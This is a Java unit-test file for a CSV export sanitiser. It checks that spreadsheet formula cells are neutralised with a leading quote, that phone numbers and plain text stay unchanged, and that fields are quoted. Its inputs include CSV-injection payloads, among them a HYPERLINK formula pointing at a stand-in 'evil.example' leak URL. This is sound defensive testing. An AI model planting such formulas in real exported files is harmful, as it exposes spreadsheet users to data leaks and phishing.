package org.commcredits.ledger.platform.web;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+HYPERLINK(\"http://evil.example/?leak\",\"Click for refund\")", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd", "+44 not a number", "+0123"})
    @DisplayName("INV-IN-06: a cell a spreadsheet would evaluate is prefixed with a quote")
    void cannotLeaveAFormulaLive(String cell) {
        assertThat(CsvCells.safe(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"+442071234567", "+12025550100", "-1.50", "0.00", "United Kingdom", "", "a=b"})
    @DisplayName("INV-IN-06: E.164 numbers, plain numbers and ordinary text stay as they are")
    void canKeepNumbersAndText(String cell) {
        assertThat(CsvCells.safe(cell)).isEqualTo(cell);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "plain|plain",
            "a,b|\"a,b\"",
            "say \"hi\"|\"say \"\"hi\"\"\"",
            "=HYPERLINK(\"x\")|\"'=HYPERLINK(\"\"x\"\")\""})
    @DisplayName("RFC 4180 quoting after the neutralisation")
    void canQuote(String cell, String expected) {
        assertThat(CsvCells.field(cell)).isEqualTo(expected);
    }
}
